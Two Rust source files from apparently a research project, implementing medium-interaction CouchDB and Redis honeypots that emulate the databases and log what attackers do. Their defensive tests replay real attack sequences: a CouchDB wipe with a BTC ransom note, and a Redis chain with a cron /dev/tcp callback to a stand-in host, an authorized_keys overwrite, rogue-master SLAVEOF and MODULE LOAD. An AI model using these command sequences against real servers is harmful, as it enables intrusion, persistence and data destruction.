//! Medium-interaction CouchDB honeypot — a coverage *extension*: the
//! paper's limitations section (§7) names CouchDB among the "lesser studied"
//! DBMS platforms whose inclusion "could have provided a more comprehensive
//! view".
//!
//! CouchDB's API is HTTP+JSON, so this emulator rides the same HTTP codec
//! as Elasticpot but fronts a *real* [`DocDb`] engine (like the
//! high-interaction MongoDB honeypot): `_all_dbs` enumerates, `_all_docs`
//! reads, `PUT`/`DELETE` actually mutate — which is exactly what the
//! well-known CouchDB ransom waves did.

use crate::catalog;
use crate::logging::SessionLogger;
use crate::low::read_or_fault;
use decoy_fakedata::FakeDataGenerator;
use decoy_net::error::NetResult;
use decoy_net::framed::Framed;
use decoy_net::proxy;
use decoy_net::server::{SessionCtx, SessionHandler, SessionStream};
use decoy_store::docdb::DocDb;
use decoy_store::{EventStore, HoneypotId};
use decoy_wire::http::{HttpRequest, HttpResponse, HttpServerCodec};
use decoy_wire::mongo::bson::{doc, Bson, Document};
use serde_json::{json, Value};
use std::sync::Arc;

/// The medium-interaction CouchDB honeypot.
pub struct CouchHoneypot {
    store: Arc<EventStore>,
    id: HoneypotId,
    db: Arc<DocDb>,
}

impl CouchHoneypot {
    /// An instance backed by an existing engine.
    pub fn with_db(store: Arc<EventStore>, id: HoneypotId, db: Arc<DocDb>) -> Arc<Self> {
        Arc::new(CouchHoneypot { store, id, db })
    }

    /// Bait configuration: fake customer documents generated from `seed`.
    pub fn with_fake_customers(
        store: Arc<EventStore>,
        id: HoneypotId,
        seed: u64,
        count: usize,
    ) -> Arc<Self> {
        let db = Arc::new(DocDb::new());
        let mut generator = FakeDataGenerator::new(seed);
        let docs: Vec<Document> = generator
            .customers(count)
            .into_iter()
            .enumerate()
            .map(|(i, c)| {
                doc! {
                    "_id" => format!("customer:{i}"),
                    "name" => c.name,
                    "address" => c.address,
                    "phone" => c.phone,
                    "credit_card" => c.credit_card,
                    "email" => c.email,
                }
            })
            .collect();
        db.insert("customers", "docs", docs);
        Self::with_db(store, id, db)
    }

    /// The backing engine (forensics and tests).
    pub fn db(&self) -> &Arc<DocDb> {
        &self.db
    }

    fn respond(&self, req: &HttpRequest) -> HttpResponse {
        let path = req.path().trim_matches('/').to_string();
        let segments: Vec<&str> = if path.is_empty() {
            Vec::new()
        } else {
            path.split('/').collect()
        };
        match (req.method.as_str(), segments.as_slice()) {
            (_, []) => HttpResponse::json(
                200,
                json!({
                    "couchdb": "Welcome",
                    "version": catalog::COUCH_VERSION,
                    "git_sha": catalog::COUCH_GIT_SHA,
                    "uuid": "f9a5d3a8e1b24a0c8d5e7f0182b3c4d5",
                    "features": ["access-ready", "partitioned", "pluggable-storage-engines"],
                    "vendor": {"name": "The Apache Software Foundation"}
                })
                .to_string(),
            ),
            ("GET", ["_all_dbs"]) => {
                let dbs: Vec<String> = self.db.list_databases();
                let body = serde_json::to_string(&dbs).unwrap_or_else(|_| "[]".to_string());
                HttpResponse::json(200, body)
            }
            ("GET", ["_utils"]) | ("GET", ["_utils", ..]) => HttpResponse::json(
                403,
                json!({"error": "forbidden", "reason": "Fauxton disabled"}).to_string(),
            ),
            ("GET", [db]) => {
                if self.db.list_databases().contains(&db.to_string()) {
                    let count = self.db.count(db, "docs", &Document::new());
                    HttpResponse::json(
                        200,
                        json!({"db_name": db, "doc_count": count, "doc_del_count": 0}).to_string(),
                    )
                } else {
                    not_found()
                }
            }
            ("PUT", [db]) => {
                // create database
                self.db.insert(db, "docs", vec![]);
                HttpResponse::json(201, json!({"ok": true}).to_string())
            }
            ("DELETE", [db]) => {
                if self.db.drop_database(db) {
                    HttpResponse::json(200, json!({"ok": true}).to_string())
                } else {
                    not_found()
                }
            }
            ("GET", [db, "_all_docs"]) => {
                let docs = self.db.find(db, "docs", &Document::new(), 0);
                let rows: Vec<Value> = docs
                    .iter()
                    .map(|d| {
                        let id = d.get_str("_id").unwrap_or("unknown");
                        json!({"id": id, "key": id, "value": {"rev": "1-x"}})
                    })
                    .collect();
                HttpResponse::json(
                    200,
                    json!({"total_rows": rows.len(), "offset": 0, "rows": rows}).to_string(),
                )
            }
            ("GET", [db, doc_id]) => {
                let filter = Document::new().with("_id", *doc_id);
                match self.db.find(db, "docs", &filter, 1).pop() {
                    Some(found) => HttpResponse::json(200, doc_to_json(&found).to_string()),
                    None => not_found(),
                }
            }
            ("PUT", [db, doc_id]) => {
                let mut document = Document::new().with("_id", *doc_id);
                if let Ok(Value::Object(map)) = serde_json::from_slice::<Value>(&req.body) {
                    for (k, v) in map {
                        if let Some(text) = v.as_str() {
                            document.insert(k, text);
                        } else if let Some(n) = v.as_i64() {
                            document.insert(k, n);
                        }
                    }
                }
                self.db.insert(db, "docs", vec![document]);
                HttpResponse::json(
                    201,
                    json!({"ok": true, "id": doc_id, "rev": "1-x"}).to_string(),
                )
            }
            _ => not_found(),
        }
    }
}

fn not_found() -> HttpResponse {
    let mut body = String::new();
    let _ = catalog::couch_not_found(&mut body);
    HttpResponse::json(404, body)
}

fn doc_to_json(d: &Document) -> Value {
    let mut map = serde_json::Map::new();
    for (k, v) in d.iter() {
        let value = match v {
            Bson::String(s) => Value::String(s.clone()),
            Bson::Int32(i) => Value::from(*i),
            Bson::Int64(i) => Value::from(*i),
            Bson::Double(f) => Value::from(*f),
            Bson::Bool(b) => Value::from(*b),
            _ => Value::Null,
        };
        map.insert(k.to_string(), value);
    }
    Value::Object(map)
}

impl SessionHandler for CouchHoneypot {
    async fn handle(self: Arc<Self>, mut stream: SessionStream, ctx: SessionCtx) {
        let (proxied, initial) = match proxy::maybe_read_v1(&mut stream).await {
            Ok(pair) => pair,
            Err(_) => return,
        };
        let log = SessionLogger::new(self.store.clone(), self.id, ctx, proxied.map(|sa| sa.ip()));
        log.connect();
        if let Err(e) = self.session(stream, initial, &log).await {
            if e.is_peer_fault() {
                log.malformed(e.to_string());
            }
        }
        log.disconnect();
    }
}

impl CouchHoneypot {
    async fn session(
        &self,
        stream: SessionStream,
        initial: bytes::BytesMut,
        log: &SessionLogger,
    ) -> NetResult<()> {
        let mut framed = Framed::with_initial(stream, HttpServerCodec, initial);
        loop {
            let req = read_or_fault!(framed, log);
            let rendered = if req.body.is_empty() {
                format!("{} {}", req.method, req.target)
            } else {
                format!("{} {} {}", req.method, req.target, req.body_text())
            };
            log.command(&rendered);
            let resp = self.respond(&req);
            // vectored head+body write: the body never enters the write buffer
            framed
                .write_split(
                    |buf| decoy_wire::http::encode_response_head(&resp, buf),
                    &resp.body,
                )
                .await?;
            let close = req
                .header("connection")
                .map(|v| v.eq_ignore_ascii_case("close"))
                .unwrap_or(false);
            if close {
                return Ok(());
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
    use decoy_net::time::Clock;
    use decoy_store::{ConfigVariant, Dbms, EventKind, InteractionLevel};
    use decoy_wire::http::HttpClientCodec;
    use tokio::net::TcpStream;

    async fn spawn_couch() -> (ServerHandle, Arc<EventStore>, Arc<CouchHoneypot>) {
        let store = EventStore::new();
        let id = HoneypotId::new(
            Dbms::CouchDb,
            InteractionLevel::Medium,
            ConfigVariant::FakeData,
            0,
        );
        let hp = CouchHoneypot::with_fake_customers(store.clone(), id, 12, 10);
        let server = Listener::bind(
            "127.0.0.1:0".parse().unwrap(),
            hp.clone(),
            ListenerOptions {
                max_sessions: 64,
                clock: Clock::simulated(),
                ..ListenerOptions::default()
            },
        )
        .await
        .unwrap();
        (server, store, hp)
    }

    async fn request(
        f: &mut Framed<TcpStream, HttpClientCodec>,
        method: &str,
        target: &str,
    ) -> HttpResponse {
        f.write_frame(&HttpRequest::new(method, target))
            .await
            .unwrap();
        f.read_frame().await.unwrap().unwrap()
    }

    #[tokio::test]
    async fn welcome_banner_and_all_dbs() {
        let (server, _store, _hp) = spawn_couch().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, HttpClientCodec);
        let banner = request(&mut f, "GET", "/").await;
        let v: Value = serde_json::from_slice(&banner.body).unwrap();
        assert_eq!(v["couchdb"], "Welcome");
        assert_eq!(v["version"], "3.3.2");
        let dbs = request(&mut f, "GET", "/_all_dbs").await;
        let v: Value = serde_json::from_slice(&dbs.body).unwrap();
        assert_eq!(v, json!(["customers"]));
        server.shutdown().await;
    }

    #[tokio::test]
    async fn reads_real_bait_documents() {
        let (server, _store, _hp) = spawn_couch().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, HttpClientCodec);
        let all = request(&mut f, "GET", "/customers/_all_docs").await;
        let v: Value = serde_json::from_slice(&all.body).unwrap();
        assert_eq!(v["total_rows"], 10);
        let one = request(&mut f, "GET", "/customers/customer:0").await;
        assert_eq!(one.status, 200);
        let v: Value = serde_json::from_slice(&one.body).unwrap();
        assert!(v["credit_card"].as_str().unwrap().starts_with('4'));
        server.shutdown().await;
    }

    #[tokio::test]
    async fn couch_ransom_kill_chain() {
        // the real-world CouchDB ransom pattern: enumerate, wipe, leave note
        let (server, store, hp) = spawn_couch().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, HttpClientCodec);
        request(&mut f, "GET", "/_all_dbs").await;
        request(&mut f, "GET", "/customers/_all_docs").await;
        let deleted = request(&mut f, "DELETE", "/customers").await;
        assert_eq!(deleted.status, 200);
        f.write_frame(&HttpRequest::new("PUT", "/warning/readme").with_body(
            "application/json",
            r#"{"note":"send 0.01 BTC to recover your data"}"#,
        ))
        .await
        .unwrap();
        let created = f.read_frame().await.unwrap().unwrap();
        assert_eq!(created.status, 201);
        server.shutdown().await;

        // engine state reflects the wipe
        assert_eq!(hp.db().list_databases(), vec!["warning"]);
        let notes = hp.db().find("warning", "docs", &Document::new(), 0);
        assert!(notes[0].get_str("note").unwrap().contains("BTC"));

        // the destructive commands are in the log for the pipeline
        let raws: Vec<String> = store
            .all()
            .into_iter()
            .filter_map(|e| match e.kind {
                EventKind::Command { raw, .. } => Some(raw),
                _ => None,
            })
            .collect();
        assert!(raws.iter().any(|r| r.starts_with("DELETE /customers")));
        assert!(raws.iter().any(|r| r.contains("BTC")));
    }

    #[tokio::test]
    async fn unknown_paths_404_and_are_logged() {
        let (server, store, _hp) = spawn_couch().await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, HttpClientCodec);
        let resp = request(&mut f, "GET", "/_utils/").await;
        assert_eq!(resp.status, 403);
        let resp = request(&mut f, "GET", "/nope/_all_docs").await;
        assert_eq!(resp.status, 200); // empty db: zero rows
        let v: Value = serde_json::from_slice(&resp.body).unwrap();
        assert_eq!(v["total_rows"], 0);
        server.shutdown().await;
        assert!(
            store
                .filter(|e| matches!(e.kind, EventKind::Command { .. }))
                .len()
                >= 2
        );
    }
}
