//! Medium-interaction Redis honeypot (RedisHoneyPot-style).
//!
//! Emulates the command set the original Go implementation answers (§4.1:
//! "14 different operations commonly used with Redis, including commands
//! such as SET, GET, DEL, FLUSHDB, and SLAVEOF") against a real
//! [`KvStore`], plus the commands the observed campaigns need (`CONFIG`,
//! `MODULE`, `SAVE`, `INFO`, `TYPE`). The fake-data variant preloads 200
//! Mockaroo-style login entries (§4.2).
//!
//! Ethics parity with the paper: `MODULE LOAD` and `system.exec` record the
//! attempt and answer an error; nothing is ever executed.

use crate::catalog;
use crate::logging::SessionLogger;
use crate::low::read_or_fault;
use decoy_net::error::NetResult;
use decoy_net::framed::Framed;
use decoy_net::proxy;
use decoy_net::server::{SessionCtx, SessionHandler, SessionStream};
use decoy_store::kv::{KvStore, ReplicationRole};
use decoy_store::{EventStore, HoneypotId};
use decoy_wire::resp::{as_command, RedisCommand, RespCodec, RespValue};
use std::sync::Arc;

/// The medium-interaction Redis honeypot.
pub struct RedisHoneypot {
    store: Arc<EventStore>,
    id: HoneypotId,
    kv: Arc<KvStore>,
}

impl RedisHoneypot {
    /// Default configuration: empty keyspace.
    pub fn new(store: Arc<EventStore>, id: HoneypotId) -> Arc<Self> {
        Arc::new(RedisHoneypot {
            store,
            id,
            kv: Arc::new(KvStore::new()),
        })
    }

    /// Fake-data configuration: preloaded `(username, password)` entries.
    pub fn with_fake_data(
        store: Arc<EventStore>,
        id: HoneypotId,
        entries: impl IntoIterator<Item = (String, String)>,
    ) -> Arc<Self> {
        Arc::new(RedisHoneypot {
            store,
            id,
            kv: Arc::new(KvStore::with_entries(entries)),
        })
    }

    /// The backing keyspace (forensics and tests).
    pub fn kv(&self) -> &Arc<KvStore> {
        &self.kv
    }

    fn execute(&self, cmd: &RedisCommand) -> RespValue {
        match cmd.name.as_str() {
            "PING" => RespValue::Simple("PONG".into()),
            // modern clients (redis-cli 6+) open with HELLO; answer the
            // RESP2 fallback map so they proceed
            "HELLO" => RespValue::Array(vec![
                RespValue::bulk("server"),
                RespValue::bulk("redis"),
                RespValue::bulk("version"),
                RespValue::bulk(catalog::REDIS_VERSION),
                RespValue::bulk("proto"),
                RespValue::Integer(2),
                RespValue::bulk("mode"),
                RespValue::bulk("standalone"),
                RespValue::bulk("role"),
                RespValue::bulk("master"),
            ]),
            "ECHO" => cmd
                .args
                .first()
                .map(|a| RespValue::Bulk(a.clone()))
                .unwrap_or_else(|| wrong_args("echo")),
            // real Redis validates the index: 16 databases, integers only
            "SELECT" => match cmd.arg_text(0).map(|s| s.parse::<i64>()) {
                Some(Ok(ix)) if (0..16).contains(&ix) => RespValue::Simple("OK".into()),
                Some(Ok(_)) => RespValue::Error("ERR DB index is out of range".into()),
                Some(Err(_)) => {
                    RespValue::Error("ERR value is not an integer or out of range".into())
                }
                None => wrong_args("select"),
            },
            "AUTH" => RespValue::Error("ERR Client sent AUTH, but no password is set.".into()),
            "SET" => {
                let (Some(key), Some(value)) = (cmd.arg_text(0), cmd.args.get(1)) else {
                    return wrong_args("set");
                };
                self.kv.set(&key, value.to_vec());
                RespValue::Simple("OK".into())
            }
            "GET" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("get");
                };
                match self.kv.get(&key) {
                    Some(v) => RespValue::Bulk(v.into()),
                    None => RespValue::NullBulk,
                }
            }
            "DEL" => {
                let keys: Vec<String> = (0..cmd.args.len())
                    .filter_map(|i| cmd.arg_text(i))
                    .collect();
                let refs: Vec<&str> = keys.iter().map(String::as_str).collect();
                RespValue::Integer(self.kv.del(&refs) as i64)
            }
            "EXISTS" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("exists");
                };
                RespValue::Integer(self.kv.exists(&key) as i64)
            }
            "KEYS" => {
                let pattern = cmd.arg_text(0).unwrap_or_else(|| "*".into());
                RespValue::Array(
                    self.kv
                        .keys(&pattern)
                        .into_iter()
                        .map(RespValue::bulk)
                        .collect(),
                )
            }
            "TYPE" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("type");
                };
                RespValue::Simple(self.kv.type_of(&key).into())
            }
            "DBSIZE" => RespValue::Integer(self.kv.len() as i64),
            "FLUSHDB" | "FLUSHALL" => {
                self.kv.flush();
                RespValue::Simple("OK".into())
            }
            "SAVE" => {
                self.kv.save();
                RespValue::Simple("OK".into())
            }
            "HSET" => {
                let (Some(key), Some(field), Some(value)) =
                    (cmd.arg_text(0), cmd.arg_text(1), cmd.args.get(2))
                else {
                    return wrong_args("hset");
                };
                RespValue::Integer(self.kv.hset(&key, &field, value.to_vec()) as i64)
            }
            "HGET" => {
                let (Some(key), Some(field)) = (cmd.arg_text(0), cmd.arg_text(1)) else {
                    return wrong_args("hget");
                };
                match self.kv.hget(&key, &field) {
                    Some(v) => RespValue::Bulk(v.into()),
                    None => RespValue::NullBulk,
                }
            }
            "HGETALL" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("hgetall");
                };
                let mut items = Vec::new();
                for (field, value) in self.kv.hgetall(&key) {
                    items.push(RespValue::bulk(field));
                    items.push(RespValue::Bulk(value.into()));
                }
                RespValue::Array(items)
            }
            "RPUSH" | "LPUSH" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("rpush");
                };
                if cmd.args.len() < 2 {
                    return wrong_args("rpush");
                }
                let tail: Vec<Vec<u8>> = cmd
                    .args
                    .get(1..)
                    .unwrap_or_default()
                    .iter()
                    .map(|b| b.to_vec())
                    .collect();
                RespValue::Integer(self.kv.rpush(&key, tail) as i64)
            }
            "LRANGE" => {
                let (Some(key), Some(start), Some(stop)) =
                    (cmd.arg_text(0), cmd.arg_text(1), cmd.arg_text(2))
                else {
                    return wrong_args("lrange");
                };
                let (Ok(start), Ok(stop)) = (start.parse::<i64>(), stop.parse::<i64>()) else {
                    return RespValue::Error("ERR value is not an integer or out of range".into());
                };
                RespValue::Array(
                    self.kv
                        .lrange(&key, start, stop)
                        .into_iter()
                        .map(|v| RespValue::Bulk(v.into()))
                        .collect(),
                )
            }
            "LLEN" => {
                let Some(key) = cmd.arg_text(0) else {
                    return wrong_args("llen");
                };
                RespValue::Integer(self.kv.llen(&key) as i64)
            }
            "INFO" => RespValue::Bulk(self.info_text(cmd.arg_text(0)).into_bytes().into()),
            "CONFIG" => match cmd.arg_text(0).map(|s| s.to_uppercase()).as_deref() {
                Some("GET") => {
                    let param = cmd.arg_text(1).unwrap_or_else(|| "*".into());
                    let mut items = Vec::new();
                    for (k, v) in self.kv.config_get(&param) {
                        items.push(RespValue::bulk(k));
                        items.push(RespValue::bulk(v));
                    }
                    RespValue::Array(items)
                }
                Some("SET") => {
                    let (Some(param), Some(value)) = (cmd.arg_text(1), cmd.arg_text(2)) else {
                        return wrong_args("config|set");
                    };
                    self.kv.config_set(&param, &value);
                    RespValue::Simple("OK".into())
                }
                _ => RespValue::Error(
                    "ERR Unknown CONFIG subcommand or wrong number of arguments".into(),
                ),
            },
            "SLAVEOF" | "REPLICAOF" => {
                let host = cmd.arg_text(0).unwrap_or_default();
                let port = cmd.arg_text(1).unwrap_or_default();
                if host.eq_ignore_ascii_case("no") && port.eq_ignore_ascii_case("one") {
                    self.kv.set_role(ReplicationRole::Master);
                } else if let Ok(port) = port.parse::<u16>() {
                    self.kv.set_role(ReplicationRole::SlaveOf { host, port });
                } else {
                    return RespValue::Error("ERR Invalid master port".into());
                }
                RespValue::Simple("OK".into())
            }
            "MODULE" => match cmd.arg_text(0).map(|s| s.to_uppercase()).as_deref() {
                Some("LOAD") => {
                    let path = cmd.arg_text(1).unwrap_or_default();
                    self.kv.module_load(&path);
                    // Real Redis errors unless the .so is valid; the rogue
                    // module never is (we never wrote the attacker's file).
                    RespValue::Error(format!("ERR Error loading the extension: {path}"))
                }
                Some("UNLOAD") => {
                    let name = cmd.arg_text(1).unwrap_or_default();
                    if self.kv.module_unload(&name) {
                        RespValue::Simple("OK".into())
                    } else {
                        RespValue::Error(format!(
                            "ERR Error unloading module: no such module {name}"
                        ))
                    }
                }
                Some("LIST") => RespValue::Array(vec![]),
                _ => RespValue::Error("ERR Unknown MODULE subcommand".into()),
            },
            // `system.exec` / `eval` arrive from rogue-module and CVE
            // exploits; with no module loaded they fail exactly like this.
            "SYSTEM.EXEC" => unknown_command(cmd, "system.exec"),
            "EVAL" => {
                RespValue::Error("ERR Error compiling script (new function): user_script:1".into())
            }
            other => unknown_command(cmd, other),
        }
    }

    // Real Redis returns only the requested section (`INFO server` has no
    // Keyspace block, an unknown section yields an empty bulk) — answering
    // everything regardless was a probe-visible tell.
    fn info_text(&self, section: Option<String>) -> String {
        let want = section.map(|s| s.to_ascii_lowercase());
        let want = want.as_deref();
        let all = matches!(want, None | Some("all" | "default" | "everything"));
        let mut out = String::new();
        if all || want == Some("server") {
            out.push_str(&format!(
                "# Server\r\nredis_version:{}\r\nredis_mode:standalone\r\n\
                 os:Linux 4.15.0 x86_64\r\ntcp_port:6379\r\n",
                catalog::REDIS_VERSION
            ));
        }
        if all || want == Some("clients") {
            out.push_str("# Clients\r\nconnected_clients:1\r\n");
        }
        if all || want == Some("replication") {
            let role = match self.kv.role() {
                ReplicationRole::Master => "role:master".to_string(),
                ReplicationRole::SlaveOf { host, port } => {
                    format!("role:slave\r\nmaster_host:{host}\r\nmaster_port:{port}")
                }
            };
            out.push_str(&format!("# Replication\r\n{role}\r\nconnected_slaves:0\r\n"));
        }
        if all || want == Some("keyspace") {
            out.push_str(&format!(
                "# Keyspace\r\ndb0:keys={},expires=0,avg_ttl=0\r\n",
                self.kv.len()
            ));
        }
        out
    }
}

impl SessionHandler for RedisHoneypot {
    async fn handle(self: Arc<Self>, mut stream: SessionStream, ctx: SessionCtx) {
        let (proxied, initial) = match proxy::maybe_read_v1(&mut stream).await {
            Ok(pair) => pair,
            Err(_) => return,
        };
        let log = SessionLogger::new(self.store.clone(), self.id, ctx, proxied.map(|sa| sa.ip()));
        log.connect();
        if let Err(e) = self.session(stream, initial, &log).await {
            if e.is_peer_fault() {
                log.malformed(e.to_string());
            }
        }
        log.disconnect();
    }
}

impl RedisHoneypot {
    async fn session(
        &self,
        stream: SessionStream,
        initial: bytes::BytesMut,
        log: &SessionLogger,
    ) -> NetResult<()> {
        let mut framed = Framed::with_initial(stream, RespCodec::server(), initial);
        loop {
            let value = read_or_fault!(framed, log);
            let Some(cmd) = as_command(&value) else {
                framed
                    .write_frame(&RespValue::Error(
                        "ERR Protocol error: expected command".into(),
                    ))
                    .await?;
                continue;
            };
            if let RespValue::Inline(line) = &value {
                let plausible = cmd.name.len() <= 20
                    && cmd
                        .name
                        .chars()
                        .all(|c| c.is_ascii_alphanumeric() || c == '.' || c == '-');
                if decoy_wire::foreign::recognize(line.as_bytes()).is_some() || !plausible {
                    log.payload(line.as_bytes());
                    framed
                        .write_frame(&RespValue::Error(
                            "ERR Protocol error: unbalanced quotes in request".into(),
                        ))
                        .await?;
                    continue;
                }
            }
            log.command(&cmd.render());
            if cmd.name == "AUTH" {
                // no password is set, but the guess is still a credential
                // capture (the 5-IP Redis brute cluster of Table 9)
                let (username, password) = if cmd.args.len() > 1 {
                    (
                        cmd.arg_text(0).unwrap_or_default(),
                        cmd.arg_text(1).unwrap_or_default(),
                    )
                } else {
                    ("default".to_string(), cmd.arg_text(0).unwrap_or_default())
                };
                log.login(&username, &password, false);
            }
            if cmd.name == "QUIT" {
                framed.write_frame(&RespValue::Simple("OK".into())).await?;
                return Ok(());
            }
            let reply = self.execute(&cmd);
            framed.write_frame(&reply).await?;
        }
    }
}

fn wrong_args(cmd: &str) -> RespValue {
    let mut msg = String::new();
    let _ = catalog::redis_wrong_args(&mut msg, cmd);
    RespValue::Error(msg)
}

// Redis ≥5 echoes the command in backticks with its leading args; the old
// quoted pre-5 format contradicted the advertised 5.0.7 banner.
fn unknown_command(cmd: &RedisCommand, name: &str) -> RespValue {
    let mut msg = String::new();
    let _ = catalog::redis_unknown_command(
        &mut msg,
        name,
        (0..cmd.args.len()).filter_map(|i| cmd.arg_text(i)),
    );
    RespValue::Error(msg)
}

#[cfg(test)]
mod tests {
    use super::*;
    use decoy_net::server::{Listener, ListenerOptions, ServerHandle};
    use decoy_net::time::Clock;
    use decoy_store::{ConfigVariant, Dbms, EventKind, InteractionLevel};
    use tokio::net::TcpStream;

    async fn spawn(fake_data: bool) -> (ServerHandle, Arc<EventStore>, Arc<RedisHoneypot>) {
        let store = EventStore::new();
        let id = HoneypotId::new(
            Dbms::Redis,
            InteractionLevel::Medium,
            if fake_data {
                ConfigVariant::FakeData
            } else {
                ConfigVariant::Default
            },
            0,
        );
        let hp = if fake_data {
            RedisHoneypot::with_fake_data(
                store.clone(),
                id,
                (0..5).map(|i| (format!("user:{i}"), format!("pw{i}"))),
            )
        } else {
            RedisHoneypot::new(store.clone(), id)
        };
        let server = Listener::bind(
            "127.0.0.1:0".parse().unwrap(),
            hp.clone(),
            ListenerOptions {
                max_sessions: 64,
                clock: Clock::simulated(),
                ..ListenerOptions::default()
            },
        )
        .await
        .unwrap();
        (server, store, hp)
    }

    async fn roundtrip(framed: &mut Framed<TcpStream, RespCodec>, parts: &[&str]) -> RespValue {
        framed
            .write_frame(&RespValue::command(parts))
            .await
            .unwrap();
        framed.read_frame().await.unwrap().unwrap()
    }

    #[tokio::test]
    async fn crud_commands_hit_the_real_store() {
        let (server, _store, hp) = spawn(false).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        assert_eq!(
            roundtrip(&mut f, &["SET", "x", "hello"]).await,
            RespValue::Simple("OK".into())
        );
        assert_eq!(
            roundtrip(&mut f, &["GET", "x"]).await,
            RespValue::bulk("hello")
        );
        assert_eq!(roundtrip(&mut f, &["DBSIZE"]).await, RespValue::Integer(1));
        assert_eq!(
            roundtrip(&mut f, &["TYPE", "x"]).await,
            RespValue::Simple("string".into())
        );
        assert_eq!(
            roundtrip(&mut f, &["DEL", "x"]).await,
            RespValue::Integer(1)
        );
        assert_eq!(roundtrip(&mut f, &["GET", "x"]).await, RespValue::NullBulk);
        server.shutdown().await;
        assert!(hp.kv().is_empty());
    }

    #[tokio::test]
    async fn fake_data_type_walk_like_the_paper() {
        // §6: "after retrieving the full list of database entries, used the
        // TYPE command on each entry individually".
        let (server, store, _hp) = spawn(true).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        let RespValue::Array(keys) = roundtrip(&mut f, &["KEYS", "*"]).await else {
            panic!("expected key list");
        };
        assert_eq!(keys.len(), 5);
        for key in &keys {
            let name = key.as_text().unwrap();
            let reply = roundtrip(&mut f, &["TYPE", &name]).await;
            assert_eq!(reply, RespValue::Simple("string".into()));
        }
        server.shutdown().await;
        let commands = store.filter(|e| matches!(e.kind, EventKind::Command { .. }));
        assert_eq!(commands.len(), 1 + 5); // KEYS + five TYPEs
    }

    #[tokio::test]
    async fn p2pinfect_command_sequence_is_served_and_logged() {
        // Condensed Listing 1.
        let (server, store, hp) = spawn(false).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        roundtrip(&mut f, &["INFO", "server"]).await;
        roundtrip(&mut f, &["FLUSHDB"]).await;
        roundtrip(
            &mut f,
            &[
                "SET",
                "x",
                "\n\n*/1 * * * * root exec 6<>/dev/tcp/198.51.100.3/8080\n\n",
            ],
        )
        .await;
        assert_eq!(
            roundtrip(&mut f, &["CONFIG", "SET", "dir", "/root/.ssh/"]).await,
            RespValue::Simple("OK".into())
        );
        roundtrip(&mut f, &["CONFIG", "SET", "dbfilename", "authorized_keys"]).await;
        roundtrip(&mut f, &["SAVE"]).await;
        assert_eq!(
            roundtrip(&mut f, &["CONFIG", "SET", "dir", "/tmp/"]).await,
            RespValue::Simple("OK".into())
        );
        roundtrip(&mut f, &["CONFIG", "SET", "dbfilename", "exp.so"]).await;
        assert_eq!(
            roundtrip(&mut f, &["SLAVEOF", "198.51.100.3", "8886"]).await,
            RespValue::Simple("OK".into())
        );
        let module_reply = roundtrip(&mut f, &["MODULE", "LOAD", "/tmp/exp.so"]).await;
        assert!(matches!(module_reply, RespValue::Error(_)));
        assert_eq!(
            roundtrip(&mut f, &["SLAVEOF", "NO", "ONE"]).await,
            RespValue::Simple("OK".into())
        );
        let exec_reply = roundtrip(&mut f, &["system.exec", "rm -rf /tmp/exp.so"]).await;
        assert!(matches!(exec_reply, RespValue::Error(_)));
        server.shutdown().await;

        // forensics: the module path was recorded, nothing executed
        assert_eq!(hp.kv().loaded_modules(), vec!["/tmp/exp.so"]);
        assert_eq!(hp.kv().role(), ReplicationRole::Master);
        // the SLAVEOF command is logged with masked ip/port for clustering
        let slaveof = store.filter(|e| {
            matches!(&e.kind, EventKind::Command { action, .. } if action == "SLAVEOF <IP> <N>")
        });
        assert_eq!(slaveof.len(), 1);
    }

    #[tokio::test]
    async fn hash_and_list_commands_over_the_wire() {
        let (server, _store, _hp) = spawn(false).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        assert_eq!(
            roundtrip(&mut f, &["HSET", "session", "user", "root"]).await,
            RespValue::Integer(1)
        );
        assert_eq!(
            roundtrip(&mut f, &["HGET", "session", "user"]).await,
            RespValue::bulk("root")
        );
        let RespValue::Array(pairs) = roundtrip(&mut f, &["HGETALL", "session"]).await else {
            panic!();
        };
        assert_eq!(pairs.len(), 2);
        assert_eq!(
            roundtrip(&mut f, &["RPUSH", "queue", "a", "b"]).await,
            RespValue::Integer(2)
        );
        assert_eq!(
            roundtrip(&mut f, &["LRANGE", "queue", "0", "-1"]).await,
            RespValue::Array(vec![RespValue::bulk("a"), RespValue::bulk("b")])
        );
        assert_eq!(
            roundtrip(&mut f, &["LLEN", "queue"]).await,
            RespValue::Integer(2)
        );
        assert_eq!(
            roundtrip(&mut f, &["TYPE", "queue"]).await,
            RespValue::Simple("list".into())
        );
        server.shutdown().await;
    }

    #[tokio::test]
    async fn info_reflects_replication_role() {
        let (server, _store, _hp) = spawn(false).await;
        let stream = TcpStream::connect(server.local_addr()).await.unwrap();
        let mut f = Framed::new(stream, RespCodec::client());
        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO"]).await else {
            panic!();
        };
        let text = String::from_utf8_lossy(&info).into_owned();
        assert!(text.contains("role:master"));
        assert!(text.contains("redis_version:5.0.7"));
        roundtrip(&mut f, &["SLAVEOF", "198.51.100.9", "8886"]).await;
        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO"]).await else {
            panic!();
        };
        let text = String::from_utf8_lossy(&info).into_owned();
        assert!(text.contains("role:slave"));
        assert!(text.contains("master_port:8886"));
        // a sectioned INFO answers only that section, like the real server
        let RespValue::Bulk(info) = roundtrip(&mut f, &["INFO", "server"]).await else {
            panic!();
        };
        let text = String::from_utf8_lossy(&info).into_owned();
